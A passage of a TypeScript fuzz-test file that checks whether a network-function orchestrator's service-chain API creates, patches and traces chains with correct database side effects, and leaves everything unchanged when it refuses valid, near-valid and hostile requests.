    /** An instance as the lifecycle leaves it: INSTANTIATED, one running VM on the fuzz host with these ports. */
    async function instance(name: string, ports: object[]): Promise<string> {
      const id = await insertInstance(db, minimalVnfd(`fzc-${name}-${tag}`), `fzc-${name}-${tag}`);
      await db.query(`UPDATE vnf_instances SET "instantiationState" = 'INSTANTIATED', "flavourId" = 'default' WHERE id = $1`, [id]);
      await db.query(`INSERT INTO vdu_instances ("vnfInstanceId", "vduId", "hostId", state, "powerState", ports) VALUES ($1, 'vm', $2, 'ACTIVE', 'RUNNING', $3)`, [id, hostId, JSON.stringify(ports)]);
      instanceIds.push(id);
      return id;
    }
    let hostId: string;

    /**
     * Sends a create (`expectChains` chains when accepted), checks the answer, and that the three
     * tables changed only on a 202: by its chains, their hops and one operation each. Accepted
     * chains are removed at once, so that they neither overlap later ones nor pile up.
     */
    async function sendCreating(sent: Sent): Promise<request.Response> {
      const before = await counts();
      const res = await send(operator, sent);
      checkResponse(sent, res);
      const after = await counts();
      if (res.status === 202) {
        const created: string[] = Array.isArray(res.body?.items) ? res.body.items.map((c: { id: string }) => c.id) : [res.body?.id];
        if (created.length === 0) fail('a 202 that made no chain', sent, res);
        if (created.some((id) => typeof id !== 'string')) fail('a 202 without chain ids', sent, res);
        const hops = await hopRows(created);
        const expected = [before[0]! + created.length, before[1]! + hops, before[2]! + created.length];
        await removeChains(created);
        if (hops === 0) fail('an accepted chain without hops', sent, res);
        if (after.join() !== expected.join()) fail(`chains/hops/ops went ${before.join('/')} -> ${after.join('/')}, expected ${expected.join('/')}`, sent, res);
      } else {
        if (res.status < 400) fail(`an unexpected success status ${res.status}`, sent, res);
        if (after.join() !== before.join()) fail(`a refused request changed chains/hops/ops: ${before.join('/')} -> ${after.join('/')}`, sent, res);
      }
      return res;
    }

    /** Creates a chain (generation 0: no worker here) and returns its id. */
    async function createChain(suffix: string): Promise<string> {
      const res = await operator.post('/api/v1/service_chains').set('content-type', 'application/json').send(toJsonText(validChain(suffix, nextChainPort())));
      if (res.status !== 202) throw new Error(`could not create the chain: ${res.status} ${res.text}`);
      return res.body.id as string;
    }

    beforeAll(async () => {
      const config = app.get(AppConfig);
      queue = new Queue(QUEUES.chains, { connection: { url: config.REDIS_URL }, prefix: config.QUEUE_PREFIX });
      chainIds.host = `fz-chain-host-${tag}`;
      hostId = await insertSriovTestHost(db, { name: chainIds.host, ovsdbRemote: 'unix:/var/run/openvswitch/db.sock', vhostSocketDir: '/tmp', imageDir: '/tmp', pmdCpu: 1 });
      chainIds.a = await instance('a', [vhost('left', `vhu-fza-l-${tag}`), vhost('right', `vhu-fza-r-${tag}`)]);
      chainIds.b = await instance('b', [vhost('left', `vhu-fzb-l-${tag}`), vhost('right', `vhu-fzb-r-${tag}`)]);
      // A third, so that the NSD's second hop (fwd-a and fwd-b) has two distinct instances to share.
      chainIds.c = await instance('c', [vhost('left', `vhu-fzc-l-${tag}`), vhost('right', `vhu-fzc-r-${tag}`)]);
      chainIds.sriov = await instance('vf', [{ cpdId: 'left-int', extCpdId: 'left', kind: 'sriov', pciAddress: '0000:3b:02.0', physnet: 'sriov-a' }, vhost('right', `vhu-fzv-r-${tag}`)]);
    });

    afterAll(async () => {
      const chains = (await db.query(`SELECT DISTINCT "chainId" AS id FROM chain_hops WHERE "vnfInstanceId" = ANY($1::uuid[])`, [instanceIds])).map((r: { id: string }) => r.id);
      await removeChains(chains);
      await db.query(`DELETE FROM vdu_instances WHERE "vnfInstanceId" = ANY($1::uuid[])`, [instanceIds]);
      const descriptors = (await db.query(`SELECT "vnfDescriptorId" FROM vnf_instances WHERE id = ANY($1::uuid[])`, [instanceIds])).map((r: { vnfDescriptorId: string }) => r.vnfDescriptorId);
      await db.query(`DELETE FROM vnf_instances WHERE id = ANY($1::uuid[])`, [instanceIds]);
      await db.query(`DELETE FROM vnf_descriptors WHERE id = ANY($1::uuid[])`, [descriptors]);
      if (hostId) await db.query(`DELETE FROM hosts WHERE id = $1`, [hostId]);
      await queue?.obliterate({ force: true }).catch(() => undefined);
      await queue?.close();
    });

    test(
      'POST /api/v1/service_chains: valid, near-valid and hostile chains store a chain, its hops and one operation only when accepted',
      async () => {
        await fc.assert(
          fc.asyncProperty(chainCreateBody, async ({ type, body, valid }) => {
            const sent: Sent = { method: 'POST', url: '/api/v1/service_chains', contentType: type, body };
            const res = await sendCreating(sent);
            if (valid && res.status !== 202) fail('a valid chain was refused', sent, res);
          }),
          { numRuns: RUNS.chainCreate },
        );
      },
      PROPERTY_TIMEOUT_MS,
    );

    test(
      'PATCH /api/v1/service_chains/:id: a refused change leaves the chain, its description and its hops as they were',
      async () => {
        const chainId = await createChain(`patch-${tag}`);
        const stateOf = async (): Promise<string> =>
          toJsonText([
            (await db.query(`SELECT spec, description FROM service_chains WHERE id = $1`, [chainId]))[0],
            await db.query(`SELECT position, "vnfInstanceId", "ingressCp", "egressCp" FROM chain_hops WHERE "chainId" = $1 ORDER BY position, "vnfInstanceId"`, [chainId]),
          ]);
        try {
          await fc.assert(
            fc.asyncProperty(chainPatchTarget, chainPatchBody, async (target, { type, body }) => {
              // The last change is done, as the worker would have it, so that this one may be accepted.
              await db.query(`UPDATE chain_op_occs SET "operationState" = 'COMPLETED' WHERE "chainId" = $1`, [chainId]);
              const id = target.kind === 'real' ? (target.upper ? chainId.toUpperCase() : chainId) : target.kind === 'raw' ? target.segment : encodeSegment(target.id);
              const sent: Sent = { method: 'PATCH', url: `/api/v1/service_chains/${id}`, contentType: type, body };
              const before = await stateOf();
              const rows = await counts();
              const res = await send(operator, sent);
              checkResponse(sent, res);
              const after = await counts();
              if (res.status === 202) {
                if (target.kind !== 'real') fail('PATCH of another id succeeded', sent, res);
                if (after[0] !== rows[0] || after[2] !== rows[2]! + 1) fail(`an accepted change went chains/hops/ops ${rows.join('/')} -> ${after.join('/')}`, sent, res);
              } else {
                if (res.status < 400) fail(`an unexpected status ${res.status}`, sent, res);
                if (after.join() !== rows.join()) fail(`a refused change changed chains/hops/ops: ${rows.join('/')} -> ${after.join('/')}`, sent, res);
                const now = await stateOf();
                if (now !== before) fail(`a refused change changed the chain:\n  ${before}\n  ${now}`, sent, res);
              }
            }),
            { numRuns: RUNS.chainPatch },
          );
        } finally {
          await removeChains([chainId]);
        }
      },
      PROPERTY_TIMEOUT_MS,
    );

    test(
      'POST /api/v1/service_chains/from_nsd: mutated NSDs and instance maps store chains only when accepted',
      async () => {
        await fc.assert(
          fc.asyncProperty(fromNsdBody, async ({ type, body }) => {
            await sendCreating({ method: 'POST', url: '/api/v1/service_chains/from_nsd', contentType: type, body });
          }),
          { numRuns: RUNS.chainFromNsd },
        );
      },
      PROPERTY_TIMEOUT_MS,
    );

    test(
      'POST /api/v1/service_chains/:id/trace: any packet on a chain with no rules yet is a 400 or a 409 (413/415 for a body too large or not sent as JSON)',
      async () => {
        const chainId = await createChain(`trace-${tag}`);
        try {
          await fc.assert(
            fc.asyncProperty(tracePacket, async ({ type, body }) => {
              const sent: Sent = { method: 'POST', url: `/api/v1/service_chains/${chainId}/trace`, contentType: type, body };
              const before = await counts();
              const res = await send(operator, sent);
              checkResponse(sent, res);
              // 413 and 415: bodies over the size limit, and the content types the file fuzzes that are not JSON, refused before the handler.
              if (![400, 409, 413, 415].includes(res.status)) fail(`a trace of a chain at generation 0 answered ${res.status}`, sent, res);
              if ((await counts()).join() !== before.join()) fail('a trace changed chains/hops/ops', sent, res);
            }),
            { numRuns: RUNS.chainTrace },
          );
        } finally {
          await removeChains([chainId]);
        }
      },
      PROPERTY_TIMEOUT_MS,
    );
  });
});
